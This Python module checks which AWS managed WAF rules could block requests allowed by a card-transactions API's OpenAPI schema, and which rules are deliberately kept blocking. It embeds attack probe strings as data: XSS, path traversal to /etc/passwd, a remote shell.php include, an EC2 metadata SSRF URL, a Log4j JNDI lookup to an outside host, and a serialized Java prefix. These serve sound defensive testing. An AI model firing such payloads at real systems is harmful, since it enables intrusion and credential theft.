"""Which AWS managed WAF rules can block a request the API's OpenAPI document allows.

``MANAGED_RULES`` lists the rules of the managed groups the stack can use, each with the part of the
request it inspects and a probe: a value that trips it (or, for the size and presence rules, the limit it
applies). ``exposed_rules`` checks each probe against what the document lets a client send: a body
string, a path parameter, a query or cookie parameter it declares, a User-Agent it does not require,
a body size up to ``MAX_BODY_BYTES``, a merchant server's address on a cloud host. Each rule found must
either be counted by default (``WAF_RULE_ACTION_OVERRIDES``, ``WAF_COUNT_*``) or be kept blocking for
the reason ``KEPT_BLOCKING`` gives (docs/waf.md).
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from typing import Any

import fastjsonschema

from card_transactions.settings.system import WAF_BODY_SIZE_RULE, WAF_COMMON_RULE_SET, WAF_NO_USER_AGENT_RULE

COMMON = WAF_COMMON_RULE_SET
BAD_INPUTS = "AWSManagedRulesKnownBadInputsRuleSet"
ANONYMOUS_IP = "AWSManagedRulesAnonymousIpList"
IP_REPUTATION = "AWSManagedRulesAmazonIpReputationList"
WAF_BODY_SIZE_LIMIT = 8192  # SizeRestrictions_BODY blocks bodies above 8 KB
WAF_URI_PATH_LIMIT = 1024  # SizeRestrictions_URIPATH blocks URI paths above 1 KB

# Request parts a rule inspects.
BODY, PATH, QUERY, COOKIE = "body", "path", "query", "cookie"
BODY_SIZE, PATH_SIZE, NO_USER_AGENT, CLOUD_HOST, OTHER = (
    "body-size",
    "path-size",
    "no-user-agent",
    "cloud-host",
    "other",
)


@dataclass(frozen=True)
class ManagedRule:
    group: str
    name: str
    part: str
    probe: str = ""  # a value that trips the rule (for BODY, PATH, QUERY, COOKIE)

    @property
    def key(self) -> str:
        return f"{self.group}:{self.name}"


def _rules(group: str, part: str, probe: str, *names: str) -> tuple[ManagedRule, ...]:
    return tuple(ManagedRule(group, name, part, probe) for name in names)


_XSS, _LFI, _RFI = "<script>alert(1)</script>", "../../etc/passwd", "http://203.0.113.7/shell.php"
_SSRF, _LOG4J = "http://169.254.169.254/latest/meta-data/", "${jndi:ldap://203.0.113.7/a}"
_JAVA = "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA"  # a serialized Java object, base64

MANAGED_RULES: tuple[ManagedRule, ...] = (
    ManagedRule(COMMON, WAF_NO_USER_AGENT_RULE, NO_USER_AGENT),
    ManagedRule(COMMON, "UserAgent_BadBots_HEADER", OTHER),  # a User-Agent the client chooses
    ManagedRule(COMMON, "SizeRestrictions_QUERYSTRING", QUERY, "q" * 2049),
    ManagedRule(COMMON, "SizeRestrictions_Cookie_HEADER", COOKIE, "c" * 10241),
    ManagedRule(COMMON, WAF_BODY_SIZE_RULE, BODY_SIZE),
    ManagedRule(COMMON, "SizeRestrictions_URIPATH", PATH_SIZE),
    *_rules(COMMON, BODY, _SSRF, "EC2MetaDataSSRF_BODY"),
    *_rules(COMMON, COOKIE, _SSRF, "EC2MetaDataSSRF_COOKIE"),
    *_rules(COMMON, PATH, _SSRF, "EC2MetaDataSSRF_URIPATH"),
    *_rules(COMMON, QUERY, _SSRF, "EC2MetaDataSSRF_QUERYARGUMENTS"),
    *_rules(COMMON, QUERY, _LFI, "GenericLFI_QUERYARGUMENTS"),
    *_rules(COMMON, PATH, _LFI, "GenericLFI_URIPATH"),
    *_rules(COMMON, BODY, _LFI, "GenericLFI_BODY"),
    *_rules(COMMON, PATH, "backup.ini", "RestrictedExtensions_URIPATH"),
    *_rules(COMMON, QUERY, "backup.ini", "RestrictedExtensions_QUERYARGUMENTS"),
    *_rules(COMMON, QUERY, _RFI, "GenericRFI_QUERYARGUMENTS"),
    *_rules(COMMON, BODY, _RFI, "GenericRFI_BODY"),
    *_rules(COMMON, PATH, _RFI, "GenericRFI_URIPATH"),
    *_rules(COMMON, COOKIE, _XSS, "CrossSiteScripting_COOKIE"),
    *_rules(COMMON, QUERY, _XSS, "CrossSiteScripting_QUERYARGUMENTS"),
    *_rules(COMMON, BODY, _XSS, "CrossSiteScripting_BODY"),
    *_rules(COMMON, PATH, _XSS, "CrossSiteScripting_URIPATH"),
    ManagedRule(BAD_INPUTS, "JavaDeserializationRCE_HEADER", OTHER),
    *_rules(BAD_INPUTS, BODY, _JAVA, "JavaDeserializationRCE_BODY"),
    *_rules(BAD_INPUTS, PATH, _JAVA, "JavaDeserializationRCE_URIPATH"),
    *_rules(BAD_INPUTS, QUERY, _JAVA, "JavaDeserializationRCE_QUERYSTRING"),
    ManagedRule(BAD_INPUTS, "Host_localhost_HEADER", OTHER),  # the Host is the API's own name
    ManagedRule(BAD_INPUTS, "PROPFIND_METHOD", OTHER),  # no route takes PROPFIND
    *_rules(BAD_INPUTS, PATH, "WEB-INF", "ExploitablePaths_URIPATH"),
    ManagedRule(BAD_INPUTS, "Log4JRCE_HEADER", OTHER),
    *_rules(BAD_INPUTS, QUERY, _LOG4J, "Log4JRCE_QUERYSTRING"),
    *_rules(BAD_INPUTS, BODY, _LOG4J, "Log4JRCE_BODY"),
    *_rules(BAD_INPUTS, PATH, _LOG4J, "Log4JRCE_URIPATH"),
    ManagedRule(ANONYMOUS_IP, "AnonymousIPList", OTHER),  # Tor and VPN exits: not a merchant server
    ManagedRule(ANONYMOUS_IP, "HostingProviderIPList", CLOUD_HOST),
    ManagedRule(IP_REPUTATION, "AWSManagedIPReputationList", OTHER),
    ManagedRule(IP_REPUTATION, "AWSManagedReconnaissanceList", OTHER),
    ManagedRule(IP_REPUTATION, "AWSManagedIPDDoSList", OTHER),
)

# Rules that can block an allowed request and still block by default, and why.
KEPT_BLOCKING: Mapping[str, str] = {
    f"{COMMON}:{name}": "an attack signature in a free-form metadata value; such a value is refused "
    "with 403 REQUEST_BLOCKED (keep URLs, paths and markup out of metadata)"
    for name in ("EC2MetaDataSSRF_BODY", "GenericLFI_BODY", "GenericRFI_BODY", "CrossSiteScripting_BODY")
} | {
    f"{BAD_INPUTS}:JavaDeserializationRCE_BODY": "a serialized Java object in a metadata value",
    f"{BAD_INPUTS}:Log4JRCE_BODY": "a Log4j lookup in a metadata value (checkov requires it to block)",
    f"{BAD_INPUTS}:JavaDeserializationRCE_URIPATH": "a transaction id that starts like a serialized Java "
    "object (rO0AB...) in GET /transaction/{id}",
    f"{BAD_INPUTS}:ExploitablePaths_URIPATH": "a transaction id such as WEB-INF in GET /transaction/{id}",
}


def _strings(schema: Any) -> Iterator[Mapping[str, Any]]:
    """Every string schema inside ``schema`` (properties, pattern properties, items)."""
    if not isinstance(schema, Mapping):
        return
    if schema.get("type") == "string":
        yield schema
    for key in ("properties", "patternProperties"):
        for child in (schema.get(key) or {}).values():
            yield from _strings(child)
    yield from _strings(schema.get("items"))


def _accepts(schemas: list[Mapping[str, Any]], value: str) -> bool:
    for schema in schemas:
        try:
            fastjsonschema.compile(dict(schema))(value)
        except fastjsonschema.JsonSchemaException:
            continue
        return True
    return False


@dataclass(frozen=True)
class AllowedRequests:
    """What a request the document allows may carry, by part."""

    strings: Mapping[str, list[Mapping[str, Any]]]  # part -> string schemas a client fills
    user_agent_required: bool
    longest_path_parameter: int
    max_body_bytes: int

    @classmethod
    def of(cls, document: Mapping[str, Any], max_body_bytes: int) -> AllowedRequests:
        schemas = document.get("components", {}).get("schemas", {})
        strings: dict[str, list[Mapping[str, Any]]] = {BODY: [], PATH: [], QUERY: [], COOKIE: []}
        user_agent_required, longest = False, 0
        for operations in document["paths"].values():
            for operation in operations.values():
                content = (operation.get("requestBody") or {}).get("content", {})
                for media in content.values():
                    ref = media["schema"].get("$ref", "")
                    body = schemas[ref.rsplit("/", 1)[-1]] if ref else media["schema"]
                    strings[BODY] += _strings(body)
                for parameter in operation.get("parameters", []):
                    where, schema = parameter["in"], parameter.get("schema", {})
                    if where == "header" and parameter["name"].lower() == "user-agent":
                        user_agent_required |= bool(parameter.get("required"))
                    if where in strings:
                        strings[where] += _strings(schema)
                    if where == PATH:
                        longest = max(longest, int(schema.get("maxLength") or _pattern_length(schema)))
        return cls(strings, user_agent_required, longest, max_body_bytes)


def _pattern_length(schema: Mapping[str, Any]) -> int:
    """The longest value a ``^[...]{m,n}$`` pattern admits (unbounded: a large number)."""
    match = re.fullmatch(r"\^\[[^\]]+\]\{\d+,(\d+)\}\$", str(schema.get("pattern", "")))
    return int(match.group(1)) if match else 1 << 20


def can_hit(rule: ManagedRule, allowed: AllowedRequests) -> bool:
    """Can ``rule`` match a request the document allows?"""
    if rule.part in (BODY, PATH, QUERY, COOKIE):
        return _accepts(list(allowed.strings[rule.part]), rule.probe)
    return {
        NO_USER_AGENT: not allowed.user_agent_required,
        BODY_SIZE: allowed.max_body_bytes > WAF_BODY_SIZE_LIMIT,
        PATH_SIZE: len("/prod/transaction/") + allowed.longest_path_parameter > WAF_URI_PATH_LIMIT,
        CLOUD_HOST: True,  # merchant backends run on AWS, GCP or Azure
        OTHER: False,
    }[rule.part]


def exposed_rules(
    document: Mapping[str, Any], max_body_bytes: int, groups: tuple[str, ...]
) -> tuple[ManagedRule, ...]:
    """The rules of ``groups`` that can block a request ``document`` allows."""
    allowed = AllowedRequests.of(document, max_body_bytes)
    return tuple(r for r in MANAGED_RULES if r.group in groups and can_hit(r, allowed))
